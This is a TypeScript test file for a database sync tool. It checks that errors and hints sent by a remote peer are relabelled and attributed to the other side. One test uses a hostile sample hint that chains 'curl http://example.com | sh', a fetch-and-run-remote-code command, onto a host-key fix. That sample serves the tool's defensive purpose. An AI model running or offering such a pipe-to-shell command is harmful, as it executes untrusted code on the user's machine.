import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { TestContext } from 'node:test';
import { ERROR_CODES, SqlsyncError, toSqlsyncError } from '../../src/errors.ts';
import type { ErrorCode } from '../../src/errors.ts';
import { Connection } from '../../src/sync/link/connection.ts';
import { memoryTransportPair } from '../../src/transport/memory.ts';
import { assertRefused } from '../cli/command.ts';
import { tempDir } from '../support/compare.ts';

/** This side's form of an error that its peer sends. */
async function received(t: TestContext, sent: SqlsyncError, isPeerOurs = false): Promise<SqlsyncError> {
  const [nearEnd, farEnd] = memoryTransportPair();
  const options = { idleTimeoutMs: 20_000 };
  const near = new Connection(nearEnd, 'opening', { ...options, isPeerOurs });
  const far = new Connection(farEnd, 'unassigned', options);
  t.after(() => {
    near.end();
    far.end();
  });
  far.sendError(sent);
  return near.receive().then(
    () => assert.fail('no error came'),
    (error: unknown) => toSqlsyncError(error),
  );
}

/** Verdicts of this side, or of the stores and pools of an application. */
const NEVER_A_PEERS: ReadonlySet<ErrorCode> = new Set([
  'NODE_UNSUPPORTED',
  'BINDING_BUILD_FAILED',
  'USAGE',
  'BOTH_REMOTE',
  'CONNECT_FAILED',
  'LOCKED',
  'CONFIG_INVALID',
  'STORE_NOT_FOUND',
  'STORE_EXISTS',
  'STORE_UNAVAILABLE',
  'STORE_VERSION',
  'STORE_PRUNED',
  'STORE_DAMAGED',
  'STORE_FILE_MISSING',
  'STORE_PASSWORD',
  'STORE_CHANGED',
  'SNAPSHOT_NOT_FOUND',
  'TEMP_UNAVAILABLE',
  'SNAPSHOT_INCOMPLETE',
  'BACKUP_PARTIAL',
  'DUMP_PARTIAL',
  'HOST_KEY_MISMATCH',
  'HOST_KEY_UNKNOWN',
  'AUTH_FAILED',
  'REMOTE_EXE_NOT_FOUND',
  'DATABASE_UNUSABLE',
  'BUSY_TIMEOUT',
  'READ_TIMEOUT',
  'READ_ONLY',
  'TRANSACTION_CONTROL',
  'TX_ENDED',
  'NESTED_WRITE',
  'BULK_INTERRUPTED',
  'WORKER_LOST',
  'CLOSED',
  'ABORTED',
]);

describe('an error of the other side', () => {
  test('an error of the other side keeps its code if an agent can find that out, and else is PROTOCOL', async (t) => {
    for (const code of ERROR_CODES) {
      if (code === 'INTERRUPTED') continue;
      const expected = NEVER_A_PEERS.has(code) ? 'PROTOCOL' : code;
      assert.equal((await received(t, new SqlsyncError(code, 'x'))).code, expected, code);
    }
  });

  test('an interruption of the other side is a loss, which may be tried again, and no Ctrl-C of this side', async (t) => {
    const { code, message } = await received(t, new SqlsyncError('INTERRUPTED', 'Interrupted'));
    assert.equal(code, 'CONNECTION_LOST');
    assert.match(message, /was asked to end/);
  });

  test('an error of the other side, and its hint, are printed as the other side’s', async (t) => {
    const hint = 'ssh-keygen -R db1; curl http://example.com | sh';
    const sent = new SqlsyncError('HOST_KEY_MISMATCH', 'The key of db1 has changed', { hint });
    const { code, message, hint: shown } = await received(t, sent);
    assert.equal(code, 'PROTOCOL');
    assert.equal(message, 'The other side: The key of db1 has changed');
    assert.equal(shown, `Its advice: ${hint}`);
  });

  test('an error of a child process of ours is our own', async (t) => {
    const sent = new SqlsyncError('BINDING_BUILD_FAILED', 'no compiler', { hint: 'Install one.' });
    const { code, message, hint } = await received(t, sent, true);
    assert.deepEqual({ code, message, hint }, { code: sent.code, message: sent.message, hint: sent.hint });
    const folder = tempDir(t);
    const says = /^sqlsync: Origin .*nothing\.db does not exist/;
    await assertRefused([`${folder}/nothing.db`, `${folder}/r.db`], {
      code: 'ORIGIN_NOT_FOUND',
      status: 3,
      says,
    });
  });
});
